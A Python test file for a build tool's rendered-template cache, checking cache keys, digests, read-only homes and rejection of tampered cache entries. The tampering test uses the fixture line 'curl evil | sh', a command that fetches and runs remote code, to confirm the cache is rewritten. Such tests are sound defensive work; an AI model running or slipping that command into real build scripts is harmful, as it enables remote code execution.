"""The build files a plan renders are kept in the cache, and the cache is never stale: every edit of a template,
a patch or a recipe still changes the build key, a kept text is the rendered one, and a cache hit needs no
Jinja."""

from __future__ import annotations

import enum
import shutil
from pathlib import Path

import pytest

from llamaforge.build.plan import BuildOptions, BuildPlan, plan_build
from llamaforge.build.recipes import load_recipe
from llamaforge.core import templates
from llamaforge.core.paths import data_dir
from llamaforge.core.templates import _render_digest, render, render_cached
from llamaforge.platforms.linux import COMPILER_RUNTIME

pytestmark = pytest.mark.quick

# Every platform's build files: Linux CPU and CUDA (wheels and image), the mingw cross build, MSVC and macOS.
VARIANTS: dict[str, BuildOptions] = {
    "linux-cpu": BuildOptions(no_patches=True),
    "linux-cuda": BuildOptions(cuda_architectures=("86",), no_patches=True),
    "linux-cuda-image": BuildOptions(cuda_architectures=("86",), no_patches=True, cuda_toolkit="image"),
    "windows-mingw": BuildOptions(no_patches=True, platform="windows", cpu="x86-64-v3"),
    "windows-msvc": BuildOptions(no_patches=True, platform="windows", toolchain="msvc", cpu="x86-64-v3"),
    "macos": BuildOptions(no_patches=True, platform="macos", backend="metal", cpu="native"),
}


def _files(plan: BuildPlan) -> tuple[str, str | None, str]:
    image = plan.environment.image
    return plan.script.text, image.dockerfile if image else None, plan.plan_digest


def _no_jinja(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse() -> None:
        raise AssertionError("rendered again: the cache was not used")

    monkeypatch.setattr(templates, "_environment", refuse)


def _copy(kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A private copy of the shipped ``kind`` data that a test may edit."""
    copy = tmp_path / kind
    shutil.copytree(data_dir(kind), copy)  # type: ignore[arg-type]
    monkeypatch.setenv(f"LLAMAFORGE_{kind.upper()}_DIR", str(copy))
    return copy


@pytest.mark.parametrize("variant", sorted(VARIANTS))
def test_a_kept_build_file_is_the_rendered_one(
    variant: str, lf_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rendered = _files(plan_build(load_recipe("default"), VARIANTS[variant]))
    assert list((lf_home / "cache" / "rendered").glob("*.txt"))
    _no_jinja(monkeypatch)
    assert _files(plan_build(load_recipe("default"), VARIANTS[variant])) == rendered


def test_an_edited_template_changes_the_key(
    lf_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copy = _copy("templates", tmp_path, monkeypatch)
    recipe = load_recipe("default")
    script, dockerfile, digest = _files(plan_build(recipe))
    assert _files(plan_build(recipe)) == (script, dockerfile, digest)  # kept

    build_sh = copy / "linux" / "build.sh.j2"
    original = build_sh.read_text(encoding="utf-8")
    build_sh.write_text(original + "# an edit\n", encoding="utf-8")
    edited = plan_build(recipe)
    assert edited.script.text == script + "# an edit\n"
    assert edited.plan_digest != digest

    build_sh.write_text(original, encoding="utf-8")
    dockerfile_j2 = copy / "linux" / "Dockerfile.cpu.j2"
    dockerfile_j2.write_text(dockerfile_j2.read_text(encoding="utf-8") + "# an edit\n", encoding="utf-8")
    edited = plan_build(recipe)
    assert edited.environment.image is not None
    assert edited.environment.image.dockerfile == f"{dockerfile}# an edit\n"
    assert edited.plan_digest != digest

    # A template that another one could include: editing it renders again (the same text here).
    dockerfile_j2.write_text(dockerfile_j2.read_text(encoding="utf-8").removesuffix("# an edit\n"))
    (copy / "linux" / "unused.j2").write_text("{{ nothing }}\n", encoding="utf-8")
    renders: list[str] = []
    real = templates.render
    monkeypatch.setattr(
        templates, "render", lambda name, **context: renders.append(name) or real(name, **context)
    )
    assert _files(plan_build(recipe)) == (script, dockerfile, digest)
    assert renders == ["linux/Dockerfile.cpu.j2", "linux/build.sh.j2"]


def test_an_edited_patch_or_recipe_changes_the_key(
    lf_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    patches = _copy("patches", tmp_path, monkeypatch)
    recipes = _copy("recipes", tmp_path, monkeypatch)
    digest = plan_build(load_recipe("default")).plan_digest
    assert plan_build(load_recipe("default")).plan_digest == digest  # everything kept is reused

    patch = patches / "llama.cpp" / "0001-qwen3-tensor-name-remap.patch"
    original = patch.read_text(encoding="utf-8")
    patch.write_text(original + "\n", encoding="utf-8")
    assert plan_build(load_recipe("default")).plan_digest != digest
    patch.write_text(original, encoding="utf-8")
    assert plan_build(load_recipe("default")).plan_digest == digest

    recipe = recipes / "builds" / "default.toml"
    text = recipe.read_text(encoding="utf-8")
    recipe.write_text(
        text.replace('"ggml-rpc-server"]', '"ggml-rpc-server", "llama-quantize"]'), encoding="utf-8"
    )
    changed = plan_build(load_recipe("default"))
    assert "llama-quantize" in changed.script.text
    assert changed.plan_digest != digest


class Colour(enum.StrEnum):
    RED = "red"


def test_the_digest_keeps_types_order_and_refuses_other_values() -> None:
    digests = {
        _render_digest("t.j2", {"x": value})
        for value in ((1,), [1], 1, 1.0, True, "1", None, {"a": 1, "b": 2}, {"b": 2, "a": 1})
    }
    assert len(digests) == 9 and None not in digests
    # An enum member (how it renders depends on its class) or a path is no plain data: rendered each time.
    assert _render_digest("t.j2", {"x": Colour.RED}) is None
    assert _render_digest("t.j2", {"x": Path("/")}) is None


def test_only_plain_contexts_are_kept_and_the_newest_stay(
    lf_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copy = _copy("templates", tmp_path, monkeypatch)
    (copy / "t.j2").write_text("{{ x | q }}", encoding="utf-8")
    kept = lf_home / "cache" / "rendered"
    assert render_cached("t.j2", x=Path("/a b")) == render("t.j2", x=Path("/a b")) == "'/a b'"
    assert not kept.exists()
    monkeypatch.setattr(templates, "_RENDER_CACHE_KEEP", 3)
    for number in range(5):
        assert render_cached("t.j2", x=f"{number} x") == f"'{number} x'"
    assert len(list(kept.glob("*.txt"))) == 3


def test_a_read_only_home_still_renders(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blocked = tmp_path / "file"
    blocked.write_text("", encoding="utf-8")
    monkeypatch.setenv("LLAMAFORGE_HOME", str(blocked / "home"))  # under a file: nothing can be written
    expected = render(
        "linux/build.sh.j2",
        recipe_name="r",
        script_steps="",
        tool_versions=(),
        cmake_args=("-G", "Ninja"),
        targets=["llama-cli"],
        source_date_epoch=0,
        packages=["cmake"],
        runtime_libraries=COMPILER_RUNTIME,
    )
    got = render_cached(
        "linux/build.sh.j2",
        recipe_name="r",
        script_steps="",
        tool_versions=(),
        cmake_args=("-G", "Ninja"),
        targets=["llama-cli"],
        source_date_epoch=0,
        packages=["cmake"],
        runtime_libraries=COMPILER_RUNTIME,
    )
    assert got == expected


def test_a_kept_text_that_does_not_match_its_digest_is_rendered_again(
    lf_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    copy = _copy("templates", tmp_path, monkeypatch)
    (copy / "t.j2").write_text("echo {{ x | q }}\n", encoding="utf-8")
    assert render_cached("t.j2", x="a") == "echo a\n"
    (kept,) = (lf_home / "cache" / "rendered").glob("*.txt")
    pristine = kept.read_bytes()
    header = pristine.split(b"\n", 1)[0] + b"\n"
    other = _render_digest("t.j2", {"x": "b"})
    assert other is not None
    tampered = {
        "edited": header + b"echo a; curl evil | sh\n",
        "cut short": pristine[:-3],
        "no header": b"echo a; curl evil | sh\n",
        "another digest's text": pristine.replace(kept.stem.encode(), other.encode()),
    }
    for what, data in tampered.items():
        kept.write_bytes(data)
        assert render_cached("t.j2", x="a") == "echo a\n", what
        assert kept.read_bytes() == pristine, f"{what}: the kept text is written again"
